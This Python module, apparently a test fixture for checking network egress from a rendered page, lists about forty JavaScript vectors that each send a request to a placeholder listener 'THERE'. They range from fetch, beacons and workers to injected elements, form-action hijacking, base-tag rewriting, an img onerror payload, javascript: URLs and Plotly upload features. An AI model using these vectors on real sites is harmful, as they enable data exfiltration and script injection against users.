"""Ways in which a script, or markup, on a page could send something away.

THERE is the address of somebody who listens. Each is a function for the page to run.
"""

from __future__ import annotations

_ELEMENT = """async () => {{
  const made = document.createElement("{name}");
  Object.entries({attributes}).forEach(([k, v]) => made.setAttribute(k, v));
  document.{into}.append(made);
}}"""
_MARKUP = """async () => document.body.insertAdjacentHTML("beforeend", `{text}`)"""


_LINK = """() => {{
  const link = document.createElement("a");
  Object.assign(link, {attributes});
  document.body.append(link);
  link.click();
}}"""


def _link(**attributes: str) -> str:
    return _LINK.format(attributes=attributes)


def _element(name: str, into: str = "body", **attributes: str) -> str:
    return _ELEMENT.format(name=name, into=into, attributes=attributes)


def _markup(text: str) -> str:
    return _MARKUP.format(text=text)


VECTORS = {
    "fetch": "() => fetch('http://THERE', {mode: 'no-cors'})",
    "XMLHttpRequest": """() => {
      const asked = new XMLHttpRequest();
      asked.open('GET', 'http://THERE');
      asked.send();
    }""",
    "beacon": "() => navigator.sendBeacon('http://THERE', 'all')",
    "socket": "() => new WebSocket('ws://THERE') && null",
    "events": "() => new EventSource('http://THERE') && null",
    "worker": "() => new Worker('http://THERE') && null",
    "worker made here": """() => new Worker(URL.createObjectURL(
      new Blob(["fetch('http://THERE', {mode: 'no-cors'})"]))) && null""",
    "import": "() => import('http://THERE')",
    "picture": "() => { new Image().src = 'http://THERE'; }",
    "window": "() => { window.open('http://THERE'); }",
    "chart uploaded": """() => {
      const chart = document.querySelector(".js-plotly-plot");
      Plotly.setPlotConfig({plotlyServerURL: 'http://THERE'});
      chart._context.plotlyServerURL = 'http://THERE';
      Plotly.Plots.sendDataToCloud(chart);
    }""",
    "chart's link": """() => {
      const chart = document.querySelector(".js-plotly-plot");
      return Plotly.newPlot(chart, chart.data, chart.layout,
        {showLink: true, plotlyServerURL: 'http://THERE', sendData: true})
        .then(() => chart.querySelector(".js-link-to-tool")?.click());
    }""",
    "image of a chart": """() => Plotly.relayout(
      document.querySelector(".js-plotly-plot"),
      {images: [{source: 'http://THERE', x: 0, y: 1, sizex: 1, sizey: 1}]})""",
    "link in a label": """async () => {
      const chart = document.querySelector(".js-plotly-plot");
      await Plotly.relayout(chart, {"xaxis.title.text": "<a href='http://THERE'>x</a>"});
      chart.querySelector("svg a")?.dispatchEvent(
        new MouseEvent("click", {bubbles: true, cancelable: true}));
    }""",
    "map of a chart": """() => Plotly.newPlot(
      document.querySelector(".js-plotly-plot"),
      [{type: "scattergeo", lon: [0], lat: [0]}], {}, {topojsonURL: 'http://THERE/'})""",
    "script": _element("script", src="http://THERE"),
    "image": _element("img", src="http://THERE"),
    "style sheet": _element("link", "head", rel="stylesheet", href="http://THERE"),
    "prefetch": _element("link", "head", rel="prefetch", href="http://THERE"),
    "manifest": _element("link", "head", rel="manifest", href="http://THERE"),
    "frame": _element("iframe", src="http://THERE"),
    "object": _element("object", data="http://THERE"),
    "video": _element("video", src="http://THERE", autoplay=""),
    "style": _markup("<style>body { background: url(http://THERE) }</style>"),
    "imported style": _markup("<style>@import 'http://THERE';</style>"),
    "font": _markup(
        "<style>@font-face { font-family: f; src: url(http://THERE) }"
        "body { font-family: f }</style>"
    ),
    "vector image": _markup(
        "<svg><image href='http://THERE' width=9 height=9 /></svg>"
    ),
    "form": """() => {
      const form = document.createElement("form");
      form.action = 'http://THERE'; form.method = "post";
      document.body.append(form); form.submit();
    }""",
    "form of the page": """() => {
      const form = document.querySelector("form");
      form.setAttribute("action", 'http://THERE'); form.submit();
    }""",
    "button with a place": """() => {
      document.querySelector("form").insertAdjacentHTML("beforeend",
        "<button formaction='http://THERE' formmethod=post id=evil></button>");
      document.getElementById("evil").click();
    }""",
    "base": """() => {
      const base = document.createElement("base");
      base.href = 'http://THERE/'; document.head.prepend(base);
      new Image().src = 'x.png';
    }""",
    "link clicked": _link(href="http://THERE"),
    "link into a window": _link(href="http://THERE", target="_blank"),
    "link that pings": _link(href="#", ping="http://THERE"),
    "download": _link(href="http://THERE", download="x"),
    "link of a vector picture": """() => {
      document.body.insertAdjacentHTML("beforeend",
        "<svg><a href='http://THERE' id=evil><text>x</text></a></svg>");
      document.querySelector("#evil text").dispatchEvent(
        new MouseEvent("click", {bubbles: true, cancelable: true}));
    }""",
    "refresh": _markup("<meta http-equiv=refresh content='0;url=http://THERE'>"),
    "script in markup": _markup(
        "<img src=data:, onerror=\\\"new Image().src='http://THERE'\\\">"
    ),
    "script as an address": _link(href="javascript:new Image().src='http://THERE'"),
    "text as a script": """() => setTimeout("new Image().src='http://THERE'", 0)""",
    "address": "() => { location.href = 'http://THERE'; }",
    "rules ahead": """() => {
      const rules = document.createElement("script"); rules.type = "speculationrules";
      rules.textContent = JSON.stringify(
        {prefetch: [{source: "list", urls: ['http://THERE']}]});
      document.head.append(rules);
    }""",
}
